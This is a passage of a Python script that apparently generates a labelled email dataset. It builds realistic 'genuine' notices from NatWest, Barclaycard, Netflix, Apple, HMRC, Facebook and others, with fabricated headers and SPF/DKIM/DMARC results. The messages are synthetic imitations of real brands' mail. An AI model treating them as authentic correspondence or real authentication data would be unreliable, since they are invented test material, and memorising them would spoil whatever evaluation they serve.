<b>Staying safe</b><br>We'll never ask you to log in to Online Banking through a link in an email. To view your statement, open the
app or type natwest.com into your browser.</td></tr>
<tr><td style="padding:18px 26px 26px 26px;font-size:15px;">Kind regards,<br>NatWest Credit Cards</td></tr>
<tr><td style="padding:18px 26px;background:#f5f5f5;font-size:11px;color:#646068;line-height:16px;">Please don't reply to this email &ndash; this mailbox isn't monitored.<br><br>
National Westminster Bank Plc. Registered in England and Wales (Registered Number 929027). Registered Office: 250 Bishopsgate, London EC2M 4AA.
Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority.<br><br>
<a href="https://www.natwest.com/global/privacy.html" style="color:#646068;">Privacy</a> | <a href="https://www.natwest.com/fraud-and-security.html" style="color:#646068;">Security centre</a></td></tr>""", "NatWest")
    plain = ("Your credit card statement is ready\n\nDear Mr Whitlock,\n\nYour latest statement for your NatWest Reward credit card "
             "ending 4417 is now available to view in the NatWest app or in Online Banking.\n\nYour minimum payment will be "
             "collected by Direct Debit on the due date shown on your statement.\n\nWe'll never ask you to log in to Online "
             "Banking through a link in an email.\n\nKind regards,\nNatWest Credit Cards\n")
    head = f"""From: {addr("NatWest", "natwest@email.natwest.com")}
To: {addr("Mr G Whitlock", H)}
Subject: Your NatWest credit card statement is ready
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@ind1s06mta{rid(stem + 'mta', 3, DIGITS)}.xt.local>
x-job: {rid(stem + 'job', 7, DIGITS)}_{rid(stem + 'job2', 7, DIGITS)}
X-SFMC-Stack: 50
MIME-Version: 1.0
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine NatWest 'credit card statement is ready' notice via Salesforce Marketing Cloud, addressed by "
         "name and card ending, telling the customer to use the app rather than any link.",
         to=H, at=at, ip="13.111.62.118", rdns="mta.email.natwest.com", helo="mta.email.natwest.com",
         mailfrom=f"bounce-{rid(stem + 'bn', 2, DIGITS)}_HTML-{rid(stem + 'bn2', 9, DIGITS)}-{rid(stem + 'bn3', 7, DIGITS)}-{rid(stem + 'bn4', 8, DIGITS)}-{rid(stem + 'bn5', 3, DIGITS)}@bounce.email.natwest.com",
         spf="pass", from_dom="email.natwest.com", dkims=[("email.natwest.com", "200608", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body)


def l_barclaycard_due():
    stem = f"b{N}-legit-barclaycard-payment-due"
    at = "2025-08-22 10:31:12"
    d = when(at) - timedelta(seconds=2)
    clk = f"https://click.email.barclaycard.co.uk/?qs={rid(stem + 'qs', 160)}"
    html = page(f"""<tr><td style="background:#00395d;padding:18px 26px;"><img src="https://image.email.barclaycard.co.uk/lib/fe9a13727566017c73/m/1/barclaycard-logo.png" width="150" alt="Barclaycard"></td></tr>
<tr><td style="padding:24px 26px 6px 26px;font-size:20px;color:#00395d;">Your payment is due soon</td></tr>
<tr><td style="padding:8px 26px;font-size:15px;line-height:23px;">Hello Mr Whitlock,<br><br>This is a reminder that a payment on your Barclaycard
ending <b>9026</b> is due on <b>{(d + timedelta(days=5)).strftime('%d %B %Y')}</b>.<br><br>
Minimum payment: <b>&pound;25.00</b><br><br>If you've already paid, thank you &ndash; you don't need to do anything.</td></tr>
<tr><td style="padding:16px 26px 24px 26px;"><a href="{clk}" style="background:#00aeef;color:#fff;padding:11px 24px;text-decoration:none;border-radius:3px;">Log in to the app</a></td></tr>
<tr><td style="padding:16px 26px;background:#f4f6f8;font-size:11px;color:#5f6b7a;line-height:16px;">We sent this email to {Y}.
Barclaycard is a trading name of Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the
Financial Conduct Authority and the Prudential Regulation Authority (Financial Services Register number 759676). Registered in
England. Registered number 9740322. Registered office: 1 Churchill Place, London E14 5HP.<br><br>
<a href="https://click.email.barclaycard.co.uk/?qs={rid(stem + 'qs2', 160)}" style="color:#5f6b7a;">Manage email preferences</a></td></tr>
<tr><td><img src="https://click.email.barclaycard.co.uk/open.aspx?ffcb10-{rid(stem + 'op', 40)}" width="1" height="1" alt=""></td></tr>""", "Barclaycard")
    plain = (f"Your payment is due soon\n\nHello Mr Whitlock,\n\nA payment on your Barclaycard ending 9026 is due on "
             f"{(d + timedelta(days=5)).strftime('%d %B %Y')}.\nMinimum payment: GBP 25.00\n\nIf you've already paid, thank you.\n\n"
             f"Log in to the app: {clk}\n")
    head = f"""From: {addr("Barclaycard", "barclaycard@email.barclaycard.co.uk")}
To: {Y}
Subject: Mr Whitlock, your Barclaycard payment is due soon
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@ind1s01mta{rid(stem + 'mta', 3, DIGITS)}.xt.local>
{list_unsub(f"https://click.email.barclaycard.co.uk/subscription_center.aspx?jwt={rid(stem + 'jwt', 90, ALNUM)}", f"leave-{rid(stem + 'lv', 40)}@leave.email.barclaycard.co.uk")}
x-job: {rid(stem + 'job', 7, DIGITS)}_{rid(stem + 'job2', 7, DIGITS)}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine Barclaycard payment-due reminder from Salesforce Marketing Cloud with click.email tracking "
         "links and an open pixel.",
         to=Y, at=at, ip="13.111.4.217", rdns="mta4217.email.barclaycard.co.uk", helo="mta4217.email.barclaycard.co.uk",
         mailfrom=f"bounce-{rid(stem + 'bn', 2, DIGITS)}_HTML-{rid(stem + 'bn2', 9, DIGITS)}-{rid(stem + 'bn3', 7, DIGITS)}@bounce.email.barclaycard.co.uk",
         spf="pass", from_dom="email.barclaycard.co.uk", dkims=[("email.barclaycard.co.uk", "200608", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body)


# ---------------------------------------------------------------------------------------------------------------
# Legitimate, part 2: subscriptions, government, shares and social
# ---------------------------------------------------------------------------------------------------------------

def l_netflix_price():
    stem = f"b{N}-legit-netflix-price-change"
    at = "2025-04-22 16:40:08"
    d = when(at) - timedelta(seconds=2)
    g = rid(stem + "g", 8)
    def nf(path, lkid):
        return (f"https://www.netflix.com/{path}?g={g}-{rid(stem + 'g2', 4)}-{rid(stem + 'g3', 4)}-{rid(stem + 'g4', 4)}-{rid(stem + 'g5', 12)}"
                f"&amp;lkid={lkid}&amp;lnktrk=EVO")
    html = page(f"""<tr><td style="padding:30px 40px 10px 40px;"><img src="https://assets.nflxext.com/us/email/gem/nflx.png" width="24" alt="Netflix"></td></tr>
<tr><td style="padding:10px 40px;font-size:28px;font-weight:bold;color:#221f1f;line-height:34px;">An update on your membership price</td></tr>
<tr><td style="padding:14px 40px;font-size:16px;line-height:24px;color:#221f1f;">Hi Gordon,<br><br>We're writing to let you know that the price of
your Standard plan will change from &pound;10.99 to <b>&pound;12.99 per month</b>, starting on your billing date of
{(d + timedelta(days=30)).strftime('%d %B %Y')}.<br><br>We'll keep investing in a great variety of TV programmes and films so there's always
something for you to watch. If you'd like to change your plan or cancel, you can do so at any time online.</td></tr>
<tr><td style="padding:8px 40px 26px 40px;"><a href="{nf('YourAccount', 'VISIT_ACCOUNT')}" style="display:block;background:#e50914;color:#fff;text-align:center;padding:14px 0;font-size:16px;font-weight:bold;text-decoration:none;border-radius:4px;">Visit Your Account</a></td></tr>
<tr><td style="padding:0 40px 26px 40px;font-size:16px;">&ndash;The Netflix team</td></tr>
<tr><td style="padding:20px 40px;background:#f3f3f3;font-size:11px;color:#a9a6a6;line-height:16px;">Questions? Visit the <a href="{nf('help', 'HELP')}" style="color:#a9a6a6;">Help Centre</a>.<br>
This account email has been sent to you as part of your Netflix membership. To change your email preferences at any time, please visit the <a href="{nf('EmailPreferences', 'EMAIL_PREFS')}" style="color:#a9a6a6;">Communication Settings</a> page for your account.<br>
SRC: {rid(stem + 'src', 8, DIGITS)}_en_GB<br>Netflix Services UK Limited</td></tr>""", "Netflix", bg="#ffffff")
    plain = (f"An update on your membership price\n\nHi Gordon,\n\nThe price of your Standard plan will change from GBP 10.99 to "
             f"GBP 12.99 per month, starting on your billing date of {(d + timedelta(days=30)).strftime('%d %B %Y')}.\n\n"
             f"Visit Your Account: {nf('YourAccount', 'VISIT_ACCOUNT').replace('&amp;', '&')}\n\n-The Netflix team\n")
    head = f"""Date: {rfc(d)}
From: {addr("Netflix", "info@account.netflix.com")}
To: {G}
Message-ID: <{rid(stem + 'mid', 20, DIGITS)}.{rid(stem + 'mid2', 8, DIGITS)}.{int(d.timestamp()) * 1000}@lsmt-nflx-gsmtp-{rid(stem + 'ms', 2, DIGITS)}>
Subject: An update on your Netflix membership price
MIME-Version: 1.0
X-Netflix.alert.guid: {g}
X-Netflix.messageId: {rid(stem + 'nmid', 14, DIGITS)}
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    mail(stem, "bulk", "Genuine Netflix price-change notice for the UK Standard plan with netflix.com account links carrying "
         "tracking parameters.",
         to=G, at=at, ip="54.240.48.92", rdns="a48-92.smtp-out.amazonses.com", helo="a48-92.smtp-out.amazonses.com",
         mailfrom=f"{rid(stem + 'mf', 16)}-{rid(stem + 'mf2', 8)}-000000@bounce.account.netflix.com", spf="pass",
         from_dom="account.netflix.com", dkims=[("netflix.com", "s2", "pass"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body)


def l_apple_receipt():
    stem = f"b{N}-legit-apple-icloud-receipt"
    at = "2025-01-30 03:14:45"
    d = when(at) - timedelta(seconds=3)
    order = f"M{rid(stem + 'o', 9, UPNUM)}"
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Your receipt from Apple.</title></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="640" cellpadding="0" cellspacing="0" style="color:#1d1d1f;">
<tr><td style="padding:30px 20px 10px 20px;"><img src="https://www.apple.com/email/images/apple_logo_2x.png" width="28" height="34" alt="Apple"></td></tr>
<tr><td style="padding:10px 20px;font-size:32px;font-weight:600;">Receipt</td></tr>
<tr><td style="padding:10px 20px;font-size:14px;line-height:21px;"><b>Apple Account:</b> {G}<br><b>Date:</b> {d.astimezone(LONDON).strftime('%d %b %Y')}<br>
<b>Order ID:</b> <a href="https://reportaproblem.apple.com/?s=6" style="color:#0070c9;">{order}</a><br><b>Document:</b> {rid(stem + 'doc', 12, DIGITS)}</td></tr>
<tr><td style="padding:16px 20px;"><table width="100%" style="border-top:1px solid #d2d2d7;border-bottom:1px solid #d2d2d7;font-size:14px;"><tr>
<td style="padding:14px 0;"><b>iCloud+ with 200 GB</b><br><span style="color:#6e6e73;">iCloud+ (Monthly)<br>Renews {(d + timedelta(days=30)).strftime('%d %b %Y')}</span></td>
<td align="right" style="padding:14px 0;">&pound;2.99</td></tr></table></td></tr>
<tr><td style="padding:0 20px;font-size:14px;" align="right">Subtotal &pound;2.49<br>VAT charged at 20% &pound;0.50<br><b>Total &pound;2.99</b><br><span style="color:#6e6e73;">Billed to Visa .... 4417</span></td></tr>
<tr><td style="padding:26px 20px;font-size:12px;color:#6e6e73;line-height:18px;">If you have any questions about your bill, please <a href="https://support.apple.com/billing" style="color:#0070c9;">contact us</a>.
Learn how to <a href="https://support.apple.com/HT202039" style="color:#0070c9;">manage your subscriptions</a>.<br><br>
Apple Distribution International Ltd., Hollyhill Industrial Estate, Hollyhill, Cork, Republic of Ireland. VAT ID: GB 117 223 643.<br><br>
<a href="https://www.apple.com/legal/" style="color:#0070c9;">Terms of Sale</a> &bull; <a href="https://www.apple.com/legal/privacy/" style="color:#0070c9;">Privacy Policy</a><br>Copyright &copy; 2025 Apple Distribution International Ltd. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Receipt\n\nApple Account: {G}\nOrder ID: {order}\n\niCloud+ with 200 GB\niCloud+ (Monthly)   GBP 2.99\n\n"
             "Total GBP 2.99\nBilled to Visa .... 4417\n\nIf you have any questions about your bill, please contact us: "
             "https://support.apple.com/billing\n")
    head = f"""From: {addr("Apple", "no_reply@email.apple.com")}
To: {addr("Gordon Whitlock", G)}
Subject: Your receipt from Apple.
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@rn2-txn-msbadger{rid(stem + 'mb', 5, DIGITS)}.apple.com>
MIME-Version: 1.0
X-Email-Type-Id: {rid(stem + 'et', 5, DIGITS)}
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    ip = f"17.111.110.{int(rid(stem + 'ip', 2, DIGITS)) + 20}"
    mail(stem, "bulk", "Genuine Apple receipt for a monthly iCloud+ 200 GB renewal (\u00a32.99) with links to Apple support "
         "and reportaproblem.apple.com.",
         to=G, at=at, ip=ip, rdns=f"rn2-txn-msbadger{rid(stem + 'mb', 5, DIGITS)}.apple.com",
         helo=f"rn2-txn-msbadger{rid(stem + 'mb', 5, DIGITS)}.apple.com", mailfrom="no_reply@email.apple.com", spf="pass",
         from_dom="email.apple.com", dkims=[("email.apple.com", "email0517", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body)


def l_hmrc_message():
    stem = f"b{N}-legit-hmrc-new-message"
    at = "2025-06-09 11:05:27"
    d = when(at) - timedelta(seconds=2)
    plain = ("Dear Gordon Whitlock\n\nYou have a new message from HMRC in your personal tax account.\n\nTo read it, sign in to "
             "your HMRC online account through GOV.UK:\n\nhttps://www.gov.uk/personal-tax-account\n\nFor security reasons, we "
             "have not included a link in this email to the message itself.\n\nFrom HMRC\n\nThis is an automated email - "
             "please do not reply.\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"><title>HMRC</title></head>
<body style="font-family: Helvetica, Arial, sans-serif;font-size: 16px;margin: 0;color:#0b0c0c;">
<table role="presentation" width="100%" style="border-collapse: collapse;min-width: 100%;width: 100% !important;" cellpadding="0" cellspacing="0" border="0">
<tr><td width="100%" height="53" bgcolor="#0b0c0c"><table role="presentation" width="100%" style="border-collapse: collapse;max-width: 580px;" cellpadding="0" cellspacing="0" border="0" align="center"><tr><td width="70" bgcolor="#0b0c0c" valign="middle"><a href="https://www.gov.uk" title="Go to the GOV.UK homepage" style="text-decoration: none;"><span style="font-family: Helvetica, Arial, sans-serif; font-weight: 700; color: #ffffff; text-decoration: none; padding-left: 10px; display: inline-block; font-size: 28px; line-height: 1.315789474;">GOV.UK</span></a></td></tr></table></td></tr></table>
<table role="presentation" class="content" align="center" cellpadding="0" cellspacing="0" border="0" style="border-collapse: collapse;max-width: 580px; width: 100% !important;" width="100%"><tr><td width="10" height="10" valign="middle"></td><td>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">Dear Gordon Whitlock</p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">You have a new message from HMRC in your personal tax account.</p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">To read it, sign in to your HMRC online account through GOV.UK:</p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;"><a style="word-wrap: break-word; color: #1D70B8;" href="https://www.gov.uk/personal-tax-account">https://www.gov.uk/personal-tax-account</a></p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">For security reasons, we have not included a link in this email to the message itself.</p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">From HMRC</p>
<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">This is an automated email - please do not reply.</p>
</td><td width="10" valign="middle"></td></tr></table></body></html>
"""
    head = f"""From: {addr("HMRC", "noreply@tax.service.gov.uk")}
To: {Y}
Subject: You have a new message from HMRC
Date: {rfc(d)}
Message-ID: <0102{rid(stem + 'mid', 12)}-{rid(stem + 'mid2', 8)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 4)}-{rid(stem + 'mid6', 12)}-000000@eu-west-2.amazonses.com>
MIME-Version: 1.0
Feedback-ID: ::1.eu-west-2.{rid(stem + 'fb', 43, ALNUM)}=:AmazonSES
X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-23.249.218.{int(rid(stem + 'so', 2, DIGITS)) + 1}
"""
    body = Multi("alternative", f"=============={rid(stem + 'bd', 19, DIGITS)}==", [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')])
    ip = f"23.249.218.{int(rid(stem + 'so', 2, DIGITS)) + 1}"
    mail(stem, "bulk", "Genuine HMRC 'you have a new message in your personal tax account' email sent via GOV.UK Notify, "
         "deliberately linking only to the GOV.UK sign-in page.",
         to=Y, at=at, ip=ip, rdns=f"a218-{ip.split('.')[-1]}.smtp-out.eu-west-2.amazonses.com",
         helo=f"a218-{ip.split('.')[-1]}.smtp-out.eu-west-2.amazonses.com",
         mailfrom=f"0102{rid(stem + 'mid', 12)}-{rid(stem + 'mid2', 8)}-000000@eu-west-2.amazonses.com", spf="pass",
         from_dom="tax.service.gov.uk", dkims=[("tax.service.gov.uk", "hmrc2021", "pass"), ("amazonses.com", "ftz2alyw6lfl3srnuruiwofhlxkzrpvk", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body)


def l_docusign_solicitor():
    stem = f"b{N}-legit-docusign-solicitor"
    msg = ("Dear Gordon, please sign the mortgage deed and the authority to complete for your remortgage with Nationwide. "
           "The signature boxes are marked; you'll need to confirm a code sent to your mobile ending 882. Any questions, "
           "call me on 01423 567210. Kind regards, Rachel")
    docusign_mail(stem, "bulk", "Genuine DocuSign envelope from a Harrogate conveyancing solicitor asking the client to sign "
                  "remortgage documents, with the usual DocuSign review link and security code.",
                  to=G, at="2025-09-09 13:21:05", sender_name="Rachel Hughes",
                  reply_to="rachel.hughes@harrogateconveyancing.co.uk", subject="Remortgage - 14 Valley Drive - deed for signature",
                  message_text=msg, doc="Remortgage deed and authority to complete.pdf",
                  acct=f"{rid(stem + 'ac', 8)}-{rid(stem + 'ac2', 4)}-{rid(stem + 'ac3', 4)}-{rid(stem + 'ac4', 4)}-{rid(stem + 'ac5', 12)}")


def l_dropbox_share():
    stem = f"b{N}-legit-dropbox-family-share"
    dropbox_mail(stem, "bulk", "Genuine Dropbox notification that the recipient's sister shared a holiday photo folder, "
                 "Reply-To her own address.", to=P, at="2025-08-31 19:44:12", sharer="Helen Marsden",
                 sharer_email="helen.marsden@icloud.com", fname="Cornwall 2025",
                 note="All the photos from St Ives, including the ones of Dad on the boat!", kind="scl/fo")


def l_onedrive_brother():
    stem = f"b{N}-legit-onedrive-brother"
    at = "2025-10-18 09:27:33"
    d = when(at) - timedelta(seconds=2)
    sender = "james.whitlock72@outlook.com"
    url = f"https://1drv.ms/f/c/{rid(stem + 'c', 16)}/E{rid(stem + 'e', 42, ALNUM + '-_')}?e={rid(stem + 'ee', 6, ALNUM)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',-apple-system,Arial,sans-serif;"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;">
<tr><td style="padding:24px 28px 4px 28px;"><table cellpadding="0" cellspacing="0"><tr><td style="width:40px;height:40px;background:#038387;color:#fff;text-align:center;font-weight:bold;border-radius:20px;">JW</td>
<td style="padding-left:12px;font-size:15px;color:#323130;">James Whitlock shared a folder with you</td></tr></table></td></tr>
<tr><td style="padding:12px 28px;font-size:14px;color:#323130;">Here are the scans of Mum's old photo albums for the 80th slideshow. Add any you've got!</td></tr>
<tr><td style="padding:14px 28px;"><table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;width:100%;"><tr>
<td style="padding:12px;width:32px;"><div style="width:32px;height:26px;background:#ffb900;border-radius:2px;"></div></td>
<td style="padding:12px;font-size:14px;color:#323130;">Mum 80th - old albums</td></tr></table></td></tr>
<tr><td style="padding:10px 28px 22px 28px;"><a href="{url}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px;">Open</a></td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#605e5c;border-top:1px solid #edebe9;"><span style="font-size:12px;">&#9632;&#9632; Microsoft</span> &nbsp; <a href="https://privacy.microsoft.com/en-gb/privacystatement" style="color:#605e5c;">Privacy Statement</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"James Whitlock shared a folder with you\r\n\r\nHere are the scans of Mum's old photo albums for the 80th slideshow. "
             f"Add any you've got!\r\n\r\nMum 80th - old albums <{url}>\r\n\r\nMicrosoft respects your privacy. "
             "https://privacy.microsoft.com/en-gb/privacystatement\r\n")
    head = f"""From: {addr("James Whitlock", sender)}
To: {addr("", H)}
Subject: James Whitlock shared the folder "Mum 80th - old albums" with you
Date: {rfc(d)}
Message-ID: <{rid(stem + 'sp1', 8)}-{rid(stem + 'sp2', 4)}-{rid(stem + 'sp3', 4)}-{rid(stem + 'sp4', 4)}-{rid(stem + 'sp5', 12)}@odspnotify>
Accept-Language: en-GB
Content-Language: en-GB
MIME-Version: 1.0
"""
    body = Multi("alternative", outlook_boundary(stem, "000", "EUR"), [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')])
    ip = f"40.92.{int(rid(stem + 'ip', 2, DIGITS)) % 60 + 20}.{int(rid(stem + 'ip2', 3, DIGITS)) % 250 + 2}"
    rdns = f"mail-am{rid(stem + 'h', 1, '67')}eur0{rid(stem + 'h2', 1, '1234')}olkn{rid(stem + 'h3', 4, DIGITS)}.outbound.protection.outlook.com"
    mail(stem, "bulk", "Genuine personal OneDrive share from the recipient's brother (1drv.ms short link to a photo folder) "
         "sent from his Outlook.com account.",
         to=H, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="outlook.com",
         dkims=[("outlook.com", "selector1", "pass")], dmarc=("pass", "NONE"), head=head, body=body,
         sign=[("outlook.com", "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def l_facebook_comment():
    stem = f"b{N}-legit-facebook-comment"
    at = "2025-05-11 19:03:48"
    d = when(at) - timedelta(seconds=1)
    nid = rid(stem + "nid", 16, DIGITS)
    def fb(path):
        return (f"https://www.facebook.com/n/?{path}&amp;aref={int(d.timestamp())}{rid(stem + 'aref', 6, DIGITS)}&amp;medium=email"
                f"&amp;mid={rid(stem + 'mid', 13)}G5af3{rid(stem + 'mid2', 9)}G{rid(stem + 'mid3', 6)}&amp;n_m={A.replace('@', '%40')}"
                f"&amp;rms=v2&amp;irms=true")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;" dir="ltr" bgcolor="#ffffff">
<table border="0" cellspacing="0" cellpadding="0" align="center" id="email_table" style="border-collapse:collapse;"><tr><td id="email_content" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;background:#ffffff;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="padding:16px 16px 0 16px;"><a href="{fb('notif_t=feedback_reaction_generic')}" style="color:#1b74e4;text-decoration:none;"><b style="font-size:22px;color:#1877f2;">facebook</b></a></td></tr>
<tr><td style="padding:16px;font-size:16px;color:#1c1e21;line-height:21px;"><b>Sarah Pearce</b> commented on your photo.</td></tr>
<tr><td style="padding:0 16px 16px 16px;font-size:15px;color:#1c1e21;line-height:20px;background:#f0f2f5;border-radius:8px;">&ldquo;What a view! Is that Brimham Rocks? We must go up there again before the weather turns.&rdquo;</td></tr>
<tr><td style="padding:16px;"><a href="{fb('notif_t=feed_comment&amp;story_fbid=' + rid(stem + 'sf', 16, DIGITS))}" style="background:#1877f2;color:#fff;padding:8px 18px;border-radius:6px;text-decoration:none;font-size:14px;font-weight:bold;">See comment</a></td></tr>
<tr><td style="padding:16px;font-size:11px;color:#8a8d91;line-height:16px;">This message was sent to <a href="mailto:{A}" style="color:#1b74e4;">{A}</a>. If you don't want to receive these emails from Meta in the future, please <a href="{fb('notif_t=feed_comment&amp;unsub=1')}" style="color:#1b74e4;">unsubscribe</a>.<br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
<tr><td><span style="color:#FFFFFF;display:none !important;font-size:1px;">To help keep your account secure, please don't forward this email. <a href="https://www.facebook.com/email_forward_notice/?mid={rid(stem + 'mid', 13)}">Learn more</a></span></td></tr>
</table></td></tr></table><img src="https://www.facebook.com/email_open_log_pic.php?mid={rid(stem + 'mid', 13)}G5af3{rid(stem + 'mid2', 9)}" style="border:0;width:1px;height:1px;"></body></html>
"""
    plain = (f"Sarah Pearce commented on your photo.\n\n\"What a view! Is that Brimham Rocks? We must go up there again before the "
             f"weather turns.\"\n\nSee comment: {fb('notif_t=feed_comment&amp;story_fbid=' + rid(stem + 'sf', 16, DIGITS)).replace('&amp;', '&')}\n\n"
             f"This message was sent to {A}.\n")
    head = f"""Date: {rfc(d, PACIFIC)}
To: {addr("Gordon Whitlock", A)}
From: {addr("Facebook", "notification@facebookmail.com")}
Reply-to: noreply <noreply@facebookmail.com>
Subject: Sarah Pearce commented on your photo.
Message-ID: <{rid(stem + 'msgid', 43, ALNUM)}@www.facebook.com>
X-Priority: 3
X-Mailer: ZuckMail [version 1.00]
Errors-To: notification@facebookmail.com
X-Facebook-Notify: feed_comment; mailid={rid(stem + 'mid', 13)}G5af3{rid(stem + 'mid2', 9)}
X-FACEBOOK-PRIORITY: 0
X-Auto-Response-Suppress: All
{list_unsub(fb('notif_t=feed_comment&unsub=1').replace('&amp;', '&'), f"unsubscribe-{rid(stem + 'um', 16)}@facebookmail.com")}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"b1_{rid(stem + 'bnd', 43, ALNUM)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    ip = f"69.171.232.{int(rid(stem + 'ip', 2, DIGITS)) + 100}"
    mail(stem, "bulk", "Genuine Facebook notification that a friend commented on the recipient's photo, with facebook.com/n "
         "tracking links, an open-log pixel and one-click unsubscribe.",
         to=A, at=at, ip=ip, rdns=f"69-171-232-{ip.split('.')[-1]}.mail-mail.facebook.com", helo="mx-out.facebook.com",
         mailfrom="notification@facebookmail.com", spf="pass", from_dom="facebookmail.com",
         dkims=[("facebookmail.com", "s1024-2013-q3", "pass")], dmarc=("pass", "REJECT"), head=head, body=body,
         sign=[("facebookmail.com", "s1024-2013-q3", {"headers": "Date:To:From:Subject:MIME-Version:Content-Type", "bits": 1024})])


def l_linkedin_jobs():
    stem = f"b{N}-legit-linkedin-job-alert"
    at = "2025-03-04 07:31:19"
    d = when(at) - timedelta(seconds=2)
    def li(path, lipi):
        return (f"https://www.linkedin.com/comm/{path}?trackingId={rid(stem + path, 22, ALNUM)}%3D%3D&amp;refId={rid(stem + 'ref', 22, ALNUM)}%3D%3D"
                f"&amp;lipi=urn%3Ali%3Apage%3Aemail_email_job_alert_digest_01%3B{rid(stem + lipi, 22, ALNUM)}%3D%3D"
                f"&amp;midToken=AQH{rid(stem + 'mt', 30, ALNUM)}&amp;midSig=0{rid(stem + 'ms', 20, ALNUM)}&amp;trk=eml-email_job_alert_digest_01-job_card-0-jobcard_body"
                f"&amp;trkEmail=eml-email_job_alert_digest_01-job_card-0-jobcard_body-null-{rid(stem + 'te', 6, ALNUM.lower())}~{rid(stem + 'te2', 8, ALNUM.lower())}~{rid(stem + 'te3', 2, ALNUM.lower())}-null-null")
    jobs = [("Project Manager - Infrastructure", "Harrogate Borough Services", "Harrogate, England, United Kingdom", "4090312786"),
